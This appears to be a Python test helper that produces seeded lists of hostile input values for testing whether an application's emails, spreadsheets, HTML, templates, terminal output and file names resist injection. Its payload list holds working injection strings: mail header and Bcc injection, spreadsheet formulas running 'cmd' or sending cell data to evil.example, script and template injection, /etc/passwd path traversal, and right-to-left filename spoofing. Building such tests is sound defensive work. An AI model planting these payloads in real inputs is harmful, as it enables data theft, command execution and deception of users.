"""Values that strangers may put into a form, a header or a file name to turn what we write against its reader.

Made from a seed, so that a run can be had again: attacks on each room that a value may be shown in, dressed up with
blanks, quotes and invisible characters, cut, joined and made very long.
"""

from __future__ import annotations

import re
from random import Random

#: What may hide, reorder or command in what a person reads on one line or in a table.
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")

#: Any harm that is known by its text.
ATTACKS = (
    "x\r\nBcc: everybody@evil.example",
    "x\nSubject: another\n\nbody",
    "x\r\n\r\n--=_boundary\r\nContent-Type: text/html\r\n\r\n<b>",
    "=?utf-8?q?=0D=0ABcc=3A_everybody=40evil=2Eexample?=",
    "=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
    "From nobody Mon Feb  3 10:00:00 2014",
    ".\r\n.\r\nQUIT\r\n",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"press")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 1632 960000",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '"=1+1"',
    "'=1+1",
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "%0A=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table><h1>Approved</h1>",
    "</style><style>*{display:none}</style>",
    "<!-- ",
    "-->",
    "<![CDATA[",
    "]]>",
    "&lt;b&gt;&#x3c;script&#x3e;",
    "javascript:alert(1)",
    "style=position:fixed;background:url(http://evil.example)",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "{{ programme.__class__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__}",
    "%s%n%(secret)s",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m",
    "[red]red[/red]",
    "[link=http://evil.example]here[/link]",
    "\u202egpj.exe",
    "\u2066\u202etxt.exe\u2069",
    "a\u2028b\u2029c\x85d",
    "a" + "\u0301" * 300,
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ufeffx\u200b\u2060",
    "\x00NUL\x00",
    "\ud800lone",
    "lone\udfff",
    "\ufffe\uffff",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\CON",
    "CON.pdf",
    "NUL",
    "a/b:c*d?e|f",
    "x" * 300 + ".pdf",
    "é" * 300,
    "form.pdf\x00.exe",
    'a"; filename="b.exe',
    "mailto:x@evil.example?bcc=y@evil.example&attach=/etc/passwd",
    "x?subject=y&body=z#frag",
    "BEGIN:VEVENT\r\nUID:evil\r\nEND:VEVENT",
    "x\r\nATTENDEE:mailto:evil@evil.example",
    "a;b,c\\nd:e",
    '{"level": "error"}\n{"event": "forged"}',
    "' OR 1=1 --",
    "\n" * 40,
    " " * 40,
    "",
)
_BEFORE = ("", "", "", " ", "\u00a0", "\u200b", "\ufeff", "\t", "'", '"', "\r\n", "\u2028", "x", "£100 ")
_AFTER = ("", "", "", " ", "\n", "\x00", "\u202e", ".pdf", "'", '"', "\\", "\x1b[0m")
_ALPHABET = (
    "abcXYZ019 .,;:'\"<>&%{}[]()|\\/=+-@#$^~`!?*_\t\r\n\x00\x07\x08\x1b\x7f\x85\x9b\u00a0\u00ad\u0301\u061c\u200b\u200d"
    "\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069\u3000\ufeff\ufffd\uffff\uff1d\uff20é中\U0001f600\ud800\udc00"
)


def hostile_values(count: int, *, seed: int, longest: int = 100_000) -> list[str]:
    """So many values, each attack among them as it stands; one in a thousand is as long as ``longest`` allows."""
    random = Random(seed)
    values = [item[:longest] for item in ATTACKS[:count]]
    while len(values) < count:
        kind = random.random()
        if kind < 0.55:
            value = random.choice(_BEFORE) + random.choice(ATTACKS) + random.choice(_AFTER)
        elif kind < 0.75:
            value = "".join(random.choices(ATTACKS, k=2))
        elif kind < 0.999:
            value = "".join(random.choices(_ALPHABET, k=random.randint(1, 60)))
        else:
            value = (random.choice(ATTACKS) or "x") * longest
        values.append(value[:longest])
    return values


def plain(value: str) -> str:
    """The value without what UTF-8 cannot hold: no mail, file or database can bring a lone surrogate to us."""
    return value.encode("utf-8", "replace").decode("utf-8")


def batches(values: list[str], size: int) -> list[list[str]]:
    """The values in order, ``size`` at a time."""
    return [values[start : start + size] for start in range(0, len(values), size)]
